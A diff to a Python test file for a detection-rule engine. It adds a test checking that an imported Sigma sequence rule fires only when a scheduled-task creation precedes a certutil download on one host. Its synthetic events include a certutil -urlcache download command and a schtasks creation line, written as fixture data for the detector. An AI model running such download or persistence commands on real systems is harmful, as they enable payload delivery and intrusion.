@@ -266,3 +266,34 @@ def test_an_imported_rule_that_does_not_load_is_written_reported_and_fails_the_c
     err = capsys.readouterr().err
     assert "broken.xml: rule PH_Rule_SIGMA_1: subpatterns[0].query: invalid: the imported rule does not load:" in err
     assert (out / "PH_Rule_SIGMA_1.yaml").is_file()  # kept for the author to fix
+
+
+def _process_record(at: str, **props: str) -> dict[str, object]:
+    return {
+        "time": at,
+        "tenantId": "t1",
+        "category": "AdvancedHunting-DeviceProcessEvents",
+        "properties": {"Timestamp": at, "DeviceName": "pc1", **props},
+    }
+
+
+def test_an_imported_sigma_sequence_fires_only_in_order() -> None:
+    """temporal_ordered end to end: schtasks then certutil on one host fires, the reverse order does not."""
+    from shared.ruletests import run_rule_tests
+
+    items = sigma_items("proc_creation_win_certutil_download.yml", "proc_creation_win_schtasks_creation.yml",
+                        "correlations_written_for_tests.yml")  # fmt: skip
+    item = items["SIGMA_Scheduled_task_created_then_certutil_downloads_on_one_host"]
+    task = _process_record("2026-11-01T10:00:00Z", FolderPath=r"C:\Windows\System32\schtasks.exe",
+                           ProcessCommandLine="schtasks /create /tn x /tr y", AccountName="bob")  # fmt: skip
+    download = _process_record("2026-11-01T10:01:00Z", FolderPath=r"C:\Windows\System32\certutil.exe",
+                               ProcessCommandLine="certutil -urlcache -f http://x/a a")  # fmt: skip
+    item.data["tests"] = [
+        {"name": "in order", "events": [{"at": 0, "raw": task}, {"at": 60, "raw": download}], "expect": {"incidents": 1}},
+        {"name": "reversed", "events": [{"at": 0, "raw": download}, {"at": 60, "raw": task}], "expect": {"incidents": 0}},
+    ]
+    rule = parse_rule_text(item.text(), "seq.yaml")
+    results = run_rule_tests([rule])
+    if any("the engine cannot run this rule" in r.detail for r in results):
+        pytest.skip("multi-subpattern rules are not wired into the engine yet")
+    assert [(r.case, r.passed, r.detail) for r in results] == [("in order", True, ""), ("reversed", True, "")]
